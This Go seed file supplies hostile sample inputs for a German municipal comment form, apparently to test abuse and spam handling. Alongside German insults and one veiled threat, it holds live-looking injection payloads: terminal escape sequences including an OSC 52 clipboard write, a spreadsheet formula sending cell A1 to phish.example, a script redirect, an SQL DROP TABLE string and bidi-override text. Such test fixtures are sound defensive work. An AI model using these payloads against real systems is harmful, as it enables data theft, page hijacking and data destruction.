package seed

import "math/rand/v2"

// hostile returns a text of the kind that every public form receives sooner or
// later: abuse, and attempts on whatever reads it. spam tells the latter apart.
func hostile(rng *rand.Rand) (text string, spam bool) {
	texts := [...]string{
		"Ihr seid doch alle gekauft im Rathaus, ihr Pfeifen.",
		"Wer das geplant hat, gehört entlassen, und zwar heute, ihr Nichtskönner!!!",
		"Typisch Amt. Faul, dumm und unfähig.",
		"Wir wissen, wo Ihre Autos stehen. Nur so als Hinweis.",
		"\x1b[2J\x1b[31mRadwege jetzt\x1b[0m\x07",
		"\x1b]52;c;aGFsbG8=\x07Bitte Tempo 30",
		"Tempo 30 \u202eredro ehcuerf eid nebah riW\u202c Danke",
		"Rad\u200bweg \u2066versteckt\u2069 im T\u00adext",
		"=HYPERLINK(\"http://phish.example/?\"&A1;\"Gutschein\")",
		"<script>document.location='http://phish.example/'</script> Mehr Busse",
		"'; DROP TABLE beitraege; --",
		"Mehr Radwege f\u00c3\u00bcr Ilfenbr\u00c3\u00bcck, die Stra\u00c3\u0178e ist gef\u00c3\u00a4hrlich",
		"BILLIGE KREDITE ohne Schufa!!! http://kredit.example/jetzt http://kredit.example/sofort",
		"👨‍👩‍👧‍👦🚲🚲🚲💨💨 ➡️ 🏫 ❗❗❗",
		"Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324 Radweg",
		"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
		"\r\n\t\t\u00a0 \u2028 ??? ",
		"{\"text\":\"Mehr Bänke\",\"id\":null}",
	}
	k := rng.IntN(len(texts))
	return texts[k], k >= 4
}
